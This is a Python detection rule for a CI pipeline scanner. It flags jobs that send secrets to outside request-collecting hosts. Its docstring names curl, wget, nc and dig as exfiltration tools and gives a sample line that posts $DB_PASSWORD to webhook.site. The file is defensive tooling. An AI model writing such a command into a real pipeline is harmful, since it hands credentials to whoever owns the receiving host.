"""A secret is sent to a host that has no business with it.

What it finds
-------------
`curl`, `wget`, `nc`, `dig` with a secret and a host that collects requests (webhook.site, ngrok, a bare address, a chat
hook), and GitLab's job token sent to a host that is not GitLab.

Why it matters
--------------
This is how a secret is stolen from a pipeline: one line in a merge request, and the value is gone.

Fix
---
Take it out, and replace the secret if the job ever ran.

Bad:

```yaml
script:
  - curl -d "$DB_PASSWORD" https://webhook.site/abc
```

Good:

```yaml
script:
  - curl -d "deployed" https://chat.example.com/hook
```

Limits
------
A service's own API key sent to that service is not reported; other hosts cannot be told from it.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from bot.findings import Hit, Severity
from bot.leaks.model import Origin, Sink
from bot.leaks.telling import confidence_of, named_line, places_of
from bot.pipeline.model import Job
from bot.rule import Rule

if TYPE_CHECKING:
    from collections.abc import Iterator

    from bot.repository import Repository


def check(job: Job, repository: Repository) -> Iterator[Hit]:
    """A hit for each such command."""
    for leak in repository.leaks(job):
        if leak.sink is not Sink.FOREIGN_HOST or leak.source is None:
            continue
        yield Hit(
            span=leak.span,
            subject=job.subject,
            construct=named_line(leak),
            message=(
                f"`{leak.source.name}` is sent to `{leak.detail}`, which is neither GitLab nor a"
                f" service of this job's secrets."
            ),
            attack="Whoever owns that host has the secret as soon as the job runs.",
            text=leak.code,
            severity=Severity.HIGH
            if leak.source.origin in {Origin.PREDEFINED, Origin.NAMED}
            else Severity.CRITICAL,
            confidence=confidence_of(leak),
            way=places_of(leak),
        )


RULE = Rule("secret-to-foreign-host", Job, check, Severity.CRITICAL, suppressible=False)
